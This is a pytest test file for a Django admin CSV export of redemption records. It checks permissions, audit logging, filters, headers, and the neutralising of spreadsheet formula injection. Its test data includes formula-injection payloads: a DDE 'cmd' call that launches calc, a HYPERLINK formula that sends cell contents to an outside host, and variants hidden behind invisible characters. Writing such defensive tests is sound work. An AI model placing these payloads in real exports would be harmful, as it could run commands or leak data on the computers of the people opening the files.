from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client

from tests import factories
from tests.admin.conftest import World, page
from tests.statements import record_statements
from tests.stories import reject
from twofa.admin import exports
from twofa.models import Event, Redemption

pytestmark = pytest.mark.django_db(transaction=True)
PERMITTED = ("view_redemption", "export_redemptions")
UNSEEN = (" ", "\xa0", "\u3000", "\u2028", "\x0b", "\x1c", "\0", "\x01", "\x85", "\u200b", "\u200e", "\u2060", "\ufeff")
"""What may stand before a formula and is not seen."""


def address(query: str = "") -> str:
    return page("redemption", "export") + query


def exported(client: Client, query: str = "", **form: str) -> list[dict[str, str]]:
    response = client.post(address(query), form)
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(content, newline="")))


def events() -> list[dict[str, Any]]:
    return [event.data for event in Event.objects.filter(type="redemptions.exported").order_by("pk")]


def test_row_has_what_the_columns_say(world: World, staff: Callable[..., Client]):
    (row,) = exported(staff(*PERMITTED))

    redemption = world.redemption
    assert row["id"] == str(redemption.pk)
    assert (row["order_id"], row["amount"], row["unit"]) == (redemption.order_id, "150.00", "points")
    assert (row["campaign"], row["storefront"]) == (world.shop.campaign.slug, world.shop.storefront.name)
    assert row["participant"] == world.shop.participant.external_id
    assert (row["status"], row["points"], row["test"]) == ("pending_2fa_approval", "reserved", "false")
    assert datetime.fromisoformat(row["created_at"]) == redemption.created_at.replace(microsecond=0)
    assert (row["approved_at"], row["two_factor_required"]) == ("", "true")


def test_no_contact_and_no_secret_leaves(world: World, boss: Client):
    response = boss.post(address())
    content = b"".join(response.streaming_content)

    kept = {**world.secrets, "destination": world.challenge.destination.encode(), "name": b"Ana Souza"}
    assert [name for name, secret in kept.items() if secret in content] == []


def test_filters_and_search_of_the_list_choose_the_rows(world: World, boss: Client):
    other = factories.Shop().open()
    reject(world.shop, world.redemption, 5)
    rejected = {str(world.redemption.pk)}

    assert {row["id"] for row in exported(boss, "?status__exact=rejected")} == rejected
    assert {row["id"] for row in exported(boss, f"?q={world.redemption.order_id}")} == rejected
    assert {row["id"] for row in exported(boss, f"?campaign__id__exact={other.campaign_id}")} == {str(other.pk)}
    assert [row["id"] for row in exported(boss)] == [str(other.pk), str(world.redemption.pk)]
    assert exported(boss, "?status__exact=failed") == []


def test_export_is_told_with_who_which_and_how_many(world: World, staff: Callable[..., Client]):
    client = staff(*PERMITTED)
    exported(client, f"?status__exact=pending_2fa_approval&q={world.redemption.order_id}&p=1&o=1")

    (event,) = Event.objects.filter(type="redemptions.exported")
    assert (event.actor_kind, event.actor, bool(event.correlation_id)) == ("staff", "maria", True)
    assert event.data == {
        "filters": [f"q={world.redemption.order_id}", "status__exact=pending_2fa_approval"],
        "rows": 1,
    }


def test_event_is_committed_before_the_first_row_leaves(world: World, boss: Client):
    response = boss.post(address())
    assert events() == [{"filters": [], "rows": 1}]

    response.close()
    assert events() == [{"filters": [], "rows": 1}], "one that breaks off has been an export as well"


def test_host_with_atomic_requests_exports_as_well(world: World, boss: Client, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(connection.settings_dict, "ATOMIC_REQUESTS", True)

    assert len(exported(boss)) == 1
    assert len(events()) == 1


def test_page_before_it_exports_nothing_and_says_what_would_be(world: World, boss: Client):
    response = boss.get(address(f"?status__exact=pending_2fa_approval&q={world.redemption.order_id}"))

    assert response.status_code == 200
    assert not response.streaming
    assert response.context["count"] == "1"
    assert response.context["filters"] == [
        f"search: {world.redemption.order_id}",
        "status: waits for its token",
    ]
    assert events() == []


@pytest.mark.parametrize("permissions", [(), ("view_redemption",), ("export_redemptions",), ("view_campaign",)])
def test_without_the_permission_nothing_leaves(
    permissions: tuple[str, ...], world: World, staff: Callable[..., Client]
):
    client = staff(*permissions)

    assert client.get(address()).status_code == 403
    assert client.post(address()).status_code == 403
    assert address() not in client.get(page("redemption", "changelist")).content.decode()
    assert events() == []


def test_button_carries_the_filters_of_the_list(world: World, staff: Callable[..., Client]):
    listed = staff(*PERMITTED).get(page("redemption", "changelist") + "?status__exact=rejected")

    assert listed.context["tools"][-1].url == address("?status__exact=rejected")


@pytest.mark.parametrize("query", ["?created_at__gte=never", "?campaign__id__exact=x", "?storefront__id__exact=x"])
def test_filters_that_make_no_sense_export_nothing(query: str, world: World, boss: Client):
    # With one campaign only, Django offers no filter for it, and takes none.
    factories.Shop().open()

    response = boss.post(address(query))

    assert response.status_code == 302
    assert events() == []


@pytest.mark.parametrize("query", ["?challenge__seed__lt=1", "?participant__user__password__startswith=x"])
def test_hidden_column_cannot_be_asked_by_a_filter(query: str, world: World, boss: Client):
    assert boss.post(address(query)).status_code == 400
    assert events() == []


def test_more_rows_than_a_file_may_have_are_cut_and_it_is_said(
    world: World, boss: Client, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(exports, "MOST", 2)
    for _time in range(2):
        world.shop.open()

    asked = boss.get(address()).content.decode()
    rows = exported(boss)

    assert "only the newest are exported" in asked
    newest = list(Redemption.objects.order_by("-pk").values_list("pk", flat=True)[:2])
    assert [row["id"] for row in rows] == [str(pk) for pk in newest]
    assert events() == [{"filters": [], "rows": 2}]


def test_export_costs_the_same_however_many_rows(world: World, boss: Client):
    def cost() -> int:
        with record_statements() as statements:
            exported(boss)
        return len(statements)

    type(world.shop.campaign).objects.update(max_open_challenges=100)
    short = cost()
    for _time in range(5):
        world.shop.open()
    assert cost() == short
    assert short <= 12


def test_file_is_a_download_that_nothing_keeps_or_guesses(world: World, boss: Client):
    response = boss.post(address(), {"bom": "on"})

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="redemptions.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbfid,order_id,")
    assert b"".join(boss.post(address()).streaming_content).startswith(b"id,order_id,")


def test_file_is_as_rfc_4180_has_it(world: World, boss: Client):
    text = 'with "quotes", commas;\r\nand a second line — ação'
    Redemption.objects.update(description=text)

    content = b"".join(boss.post(address()).streaming_content).decode()
    (row,) = exported(boss)

    assert row["description"] == text
    assert '"with ""quotes"", commas;\r\nand a second line — ação"' in content
    assert content.endswith("\r\n")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org/?"&A1,"x")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "\nx",
        "\0=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        *[f"{unseen}=1+1" for unseen in UNSEEN],
        "  @SUM(1)",
        "\u200b \u2060+1",
    ],
)
def test_text_that_a_spreadsheet_would_run_is_made_text(text: str):
    assert exports.cell(text) == f"'{text}"


@pytest.mark.parametrize("separator", [";", "\t", "|"])
@pytest.mark.parametrize(
    "inner",
    [
        "=1+1",
        "=cmd|'/C calc'!A0",
        '"=1+1&"',
        "'=1",
        "@SUM(A1)",
        "＝1+1",
        "\n=1+1",
        *[f"{unseen}=1+1" for unseen in UNSEEN],
    ],
)
@pytest.mark.parametrize("end", ["", "; end"])
def test_text_holds_no_formula_for_those_who_split_lines_elsewhere(separator: str, inner: str, end: str):
    """Excel does at semicolons, wherever a comma is the decimal sign: in the languages of this package, for two."""
    hostile = f"Gift{separator}{inner}{end}\n{inner}"
    line = "".join(exports.content(iter([("an id", hostile)]), bom=False)).split("\r\n", 1)[1]

    cells = [cell for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator) for cell in row]
    as_lines = [cell for text in line.split("\n") for cell in text.split(separator)]

    skipped = ' \t"' + "".join(UNSEEN)
    assert not [cell for cell in cells + as_lines if cell.strip(skipped).startswith(tuple("=+-@＝＋－＠"))]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("two; three | four", "two; three | four"),
        ("  two spaces", "  two spaces"),
        ("\u200b", "\u200b"),
        ("\u200bone; \u2060two", "\u200bone; \u2060two"),
        (Decimal("150.00"), "150.00"),
        (Decimal("999999999999.99"), "999999999999.99"),
        (7, "7"),
        (True, "true"),
        (None, ""),
        ("", ""),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        (datetime(2026, 5, 3, 14, 2, 3, 999, tzinfo=UTC), "2026-05-03T14:02:03+00:00"),
    ],
)
def test_what_is_harmless_stays_as_it_is(value: Any, expected: str):
    assert exports.cell(value) == expected


def test_every_text_of_a_row_is_made_harmless(world: World, boss: Client):
    hostile = "=cmd|'/C calc'!A0"
    texts = ("order_id", "unit", "description", "failure_code", "failure_detail", "correlation_id")
    Redemption.objects.update(**dict.fromkeys(texts, hostile[:20]))
    type(world.shop.storefront).objects.update(name=hostile)
    type(world.shop.participant).objects.filter(pk=world.shop.participant.pk).update(external_id=hostile)

    (row,) = exported(boss)

    assert sum(value.startswith("'=") for value in row.values()) == len(texts) + 2
    assert not [name for name, value in row.items() if value[:1] in "=+-@" and value]
